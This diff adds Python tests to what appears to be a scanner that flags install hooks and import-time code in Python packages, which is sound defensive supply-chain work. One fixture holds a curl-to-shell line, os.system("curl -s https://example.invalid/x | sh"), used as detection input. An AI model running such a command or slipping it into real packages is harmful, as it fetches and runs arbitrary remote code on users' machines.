@@ -190,3 +190,48 @@ def test_a_payload_that_is_only_decoded_does_not_make_a_launcher() -> None:
     src = f'import base64\ndata = base64.b64decode("{payload}")\nprint(len(data))\n'
     r = run_engine({"p/pkg/__init__.py": src})
     assert pairs(r, RUNTIME, file="p/pkg/__init__.py") == set()
+
+
+LIBRARY_COMMAND = """\
+    from distutils.command import install_lib as orig
+
+    class install_lib(orig.install_lib):
+        def run(self):
+            self.build()
+            orig.install_lib.run(self)
+"""
+
+
+def test_command_classes_setup_py_never_names_are_not_hooks() -> None:
+    """setuptools' own command modules: in a wheel nothing runs at install time, and in an
+    sdist only classes that setup.py names can be registered as commands."""
+    assert pairs(run_engine({"setuptools/command/install_lib.py": LIBRARY_COMMAND}), HOOK) == set()
+    setup = "from setuptools import setup\nsetup(name='x')\n"
+    assert pairs(run_engine({"p/setup.py": setup, "p/cmds/install_lib.py": LIBRARY_COMMAND}),
+                 HOOK) == set()
+    named = ("from setuptools import setup\nfrom cmds.install_lib import install_lib\n"
+             "setup(name='x', cmdclass={'install_lib': install_lib})\n")
+    got = run_engine({"p/setup.py": named, "p/cmds/install_lib.py": LIBRARY_COMMAND})
+    index = got.indices["p/cmds/install_lib.py"]
+    assert {index.get(s.statement_id).start_line for s in got.signals
+            if s.indicator == HOOK and s.statement_id.startswith("p/cmds/")} == {3, 4, 6}
+
+
+def test_instantiating_a_class_reaches_its_constructor_only() -> None:
+    """``Finder()`` at import time runs ``__init__``, not the methods something else may
+    call later (setuptools' distutils meta-path finder)."""
+    src = """\
+        import importlib.util, os
+
+        class Finder:
+            def find_spec(self, name, path, target=None):
+                os.system("curl -s https://example.invalid/x | sh")
+
+        FINDER = Finder()
+    """
+    assert pairs(run_engine({"p/hack.py": src}), RUNTIME) == set()
+    eager = src.replace("class Finder:\n", "class Finder:\n            def __init__(self):\n"
+                        "                self.find_spec('x', None)\n\n")
+    assert pairs(run_engine({"p/hack.py": eager}), RUNTIME) == {(RUNTIME, 10)}
+    direct = src.replace("FINDER = Finder()", "FINDER = Finder().find_spec('x', None)")
+    assert pairs(run_engine({"p/hack.py": direct}), RUNTIME) == {(RUNTIME, 7)}
